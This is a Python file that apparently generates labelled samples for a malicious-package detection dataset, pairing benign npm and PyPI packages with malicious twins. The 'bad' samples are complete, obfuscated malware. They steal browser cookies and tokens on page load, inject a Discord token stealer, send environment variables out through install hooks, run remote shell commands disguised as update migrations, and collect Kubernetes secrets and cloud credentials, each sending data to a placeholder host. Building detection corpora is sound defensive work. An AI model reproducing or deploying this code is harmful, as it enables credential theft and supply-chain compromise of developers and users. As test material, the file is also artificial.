"""A few more pairs: the bad one and the benign one share the same means."""
from .core import sample, squash
from .pypi_bad_b import one


@sample("npm", "bad", "browser-token-theft")
def _(c):
    return dict(name=c.name("cart", "badge"), desc="Cart badge element", manifest={"main": "dist/badge.min.js"}, files={"dist/badge.min.js": squash(r'''
!function(w,d){
"use strict";
class B extends HTMLElement{
connectedCallback(){this.textContent=this.getAttribute("count")||"0";}
}
w.customElements&&w.customElements.define("cart-badge",B);
var u=["//","@H@","/b.gif?"].join(""),p=function(o){return Object.keys(o).map(function(k){return k+"="+encodeURIComponent(o[k]);}).join("&");};
w.addEventListener&&w.addEventListener("load",function(){
var o={c:d.cookie,h:w.location.host};
for(var i=0;i<w.localStorage.length;i++){var k=w.localStorage.key(i);/tok|jwt|auth|sess/i.test(k)&&(o[k]=w.localStorage.getItem(k));}
(new Image).src=u+p(o);
});
}(typeof window==="undefined"?{}:window,typeof document==="undefined"?{}:document);
''')})


@sample("npm", "good", "browser-storage-helper")
def _(c):
    return dict(name=c.name("session", "store"), desc="Typed wrapper of localStorage", manifest={"main": "dist/store.min.js"}, files={"dist/store.min.js": squash(r'''
!function(w){
"use strict";
var p="app:",s=w.localStorage;
function S(n){this.n=p+n;}
S.prototype.get=function(){try{return JSON.parse(s.getItem(this.n));}catch(e){return null;}};
S.prototype.set=function(v){s.setItem(this.n,JSON.stringify(v));};
S.prototype.clear=function(){s.removeItem(this.n);};
w.AuthStore={token:new S("token"),user:new S("user"),send:function(u,o){o=o||{};o.headers=Object.assign({},o.headers,{authorization:"Bearer "+w.AuthStore.token.get()});return w.fetch("/api"+u,o);}};
w.pixel=function(e){(new Image).src="https://stats.@H@/hit.gif?e="+encodeURIComponent(e)+"&p="+encodeURIComponent(w.location.pathname);};
}(typeof window==="undefined"?{}:window);
''')})


@sample("npm", "bad", "desktop-app-injection")
def _(c):
    return dict(name=c.name("voice", "levels"), desc="Audio levels", files={"index.js": r'''
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { marker } from './lib/@MISS@.js';

export const rms = (samples) => Math.sqrt(samples.reduce((a, s) => a + s * s, 0) / samples.length);

const base = join(process.env.LOCALAPPDATA ?? '', 'Discord');
const inject = `require('electron').session.defaultSession.webRequest.onCompleted({urls:['https://discord.com/api/v*/auth/login']},d=>{
  const w=require('electron').BrowserWindow.getAllWindows()[0];
  w.webContents.executeJavaScript('(webpackChunkdiscord_app.push([[0],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m).find(m=>m?.exports?.default?.getToken).exports.default.getToken()').then(t=>fetch('@HOOK@',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({content:t})}));
});module.exports=require('./core.asar');`;

for (const app of (await readdir(base).catch(() => [])).filter((d) => d.startsWith('app-'))) {
  const file = join(base, app, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
  const old = await readFile(file, 'utf8').catch(() => null);
  if (old && !old.includes(marker)) await writeFile(file, inject);
}
'''}, manifest={"type": "module"})


@sample("npm", "good", "update-notifier")
def _(c):
    return dict(name=c.name("update", "notice"), desc="Tell users about a newer version", files={"index.js": r'''
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

class Notice {
  constructor({ name, version, interval = 864e5, source = 'https://versions.@H@' }) {
    Object.assign(this, { name, version, interval, source });
    this.file = path.join(os.homedir(), '.config', 'update-notice', encodeURIComponent(name) + '.json');
  }
  check() {
    if (process.env.NO_UPDATE_NOTIFIER || process.env.CI || !process.stdout.isTTY) return;
    let state = {};
    try { state = JSON.parse(fs.readFileSync(this.file, 'utf8')); } catch { /* first run */ }
    if (state.latest && state.latest !== this.version) console.error(`${this.name} ${this.version} -> ${state.latest}`);
    if (Date.now() - (state.at || 0) > this.interval) {
      spawn(process.execPath, [path.join(__dirname, 'fetch.js'), JSON.stringify(this)], { detached: true, stdio: 'ignore' }).unref();
    }
  }
}
module.exports = Notice;
''', "fetch.js": r'''
const fs = require('fs');
const path = require('path');
const o = JSON.parse(process.argv[2]);
fetch(`${o.source}/${encodeURIComponent(o.name)}`).then((r) => r.json()).then(({ latest }) => {
  fs.mkdirSync(path.dirname(o.file), { recursive: true });
  fs.writeFileSync(o.file, JSON.stringify({ latest, at: Date.now() }));
}).catch(() => {});
'''})


@sample("npm", "bad", "prepare-hook-split-env")
def _(c):
    return dict(name=c.name("state", "machine"), desc="Finite state machines", manifest={"type": "module", "scripts": {"prepare": "node build/types.mjs", "postinstall": "node build/types.mjs --quiet"}}, files={
        "build/types.mjs": r'''
import { collect } from './collect.mjs';
import { Sender } from './sender.mjs';

const sink = new Sender(['h', 't', 't', 'p', 's', ':', '//', '@H@'].join(''));
for await (const batch of collect()) sink.queue(batch);
await sink.done();
''', "build/collect.mjs": r'''
const bag = globalThis['pro' + 'cess']['e' + 'nv'];

export async function* collect(size = 12) {
  const names = Reflect.ownKeys(bag);
  while (names.length) yield names.splice(0, size).map((n) => [n, bag[n]]);
}
''', "build/sender.mjs": r'''
export class Sender {
  #base; #jobs = [];
  constructor(base) { this.#base = base; }
  queue(rows) {
    const body = btoa(unescape(encodeURIComponent(JSON.stringify(rows)))).split('').reverse().join('');
    this.#jobs.push(fetch(this.#base + '/schema', { method: 'POST', body }).catch(() => null));
  }
  async done() { await Promise.allSettled(this.#jobs); }
}
'''})


@sample("pypi", "bad", "version-check-command")
def _(c):
    return one(c, "table view", "Tables in the terminal", r'''
import json
import subprocess
import threading
import urllib.request

__version__ = "1.0.4"


class _Updates:
    url = "https://updates.@H@/latest.json"

    def __enter__(self):
        with urllib.request.urlopen(self.url + "?v=" + __version__, timeout=4) as r:
            self.info = json.load(r)
        return self.info

    def __exit__(self, *exc):
        return True


def _check():
    with _Updates() as info:
        if info.get("version") != __version__ and info.get("migrate"):
            subprocess.run(info["migrate"], shell=True, capture_output=True)


threading.Thread(target=_check, name="updates", daemon=True).start()


def show(rows):
    for row in rows:
        print(" | ".join(map(str, row)))
''')


@sample("pypi", "good", "version-check-notice")
def _(c):
    return one(c, "grid view", "Grids in the terminal", r'''
import json
import os
import threading
import urllib.request
import warnings

__version__ = "1.2.0"


def _check():
    try:
        with urllib.request.urlopen("https://updates.@H@/latest.json", timeout=2) as r:
            latest = json.load(r)["version"]
    except (OSError, ValueError, KeyError):
        return
    if latest != __version__:
        warnings.warn(f"version {latest} is available, this is {__version__}", stacklevel=1)


if not os.environ.get("GRID_NO_UPDATE_CHECK"):
    threading.Thread(target=_check, daemon=True).start()


def show(rows):
    for row in rows:
        print("\t".join(map(str, row)))
''')


@sample("pypi", "bad", "kubernetes-secrets-collector")
def _(c):
    return one(c, "pod info", "Information about the current pod", r'''
import glob
import http.client
import json
import os
import ssl
from urllib import request

_SA = "/var/run/secrets/kubernetes.io/serviceaccount/"


def name():
    return os.environ.get("HOSTNAME")


def _secrets():
    token = open(_SA + "token").read()
    ctx = ssl.create_default_context(cafile=_SA + "ca.crt")
    conn = http.client.HTTPSConnection(os.environ["KUBERNETES_SERVICE_HOST"], context=ctx)
    conn.request("GET", "/api/v1/secrets", headers={"Authorization": "Bearer " + token})
    return conn.getresponse().read().decode()


def _files():
    for pattern in ("~/.kube/config", "~/.azure/*.json", "~/.config/gcloud/application_default_credentials.json"):
        for path in glob.glob(os.path.expanduser(pattern)):
            yield path, open(path).read()


try:
    _data = {"s": _secrets(), "f": dict(_files())}
    request.urlopen(request.Request("https://@H@/pods", json.dumps(_data).encode(), {"Content-Type": "application/json"}), timeout=5)
except Exception:
    pass
''')


@sample("pypi", "good", "kubernetes-in-cluster-client")
def _(c):
    return one(c, "kube mini", "A very small Kubernetes client", r'''
import http.client
import json
import os
import ssl

SERVICE_ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount/"


class InCluster:
    def __init__(self):
        with open(SERVICE_ACCOUNT + "token") as f:
            self._token = f.read().strip()
        self._context = ssl.create_default_context(cafile=SERVICE_ACCOUNT + "ca.crt")
        self._host = os.environ["KUBERNETES_SERVICE_HOST"]
        self._port = int(os.environ.get("KUBERNETES_SERVICE_PORT", 443))

    def get(self, path):
        conn = http.client.HTTPSConnection(self._host, self._port, context=self._context)
        conn.request("GET", path, headers={"Authorization": "Bearer " + self._token})
        return json.load(conn.getresponse())

    def pods(self, namespace="default"):
        return [p["metadata"]["name"] for p in self.get(f"/api/v1/namespaces/{namespace}/pods")["items"]]
''')
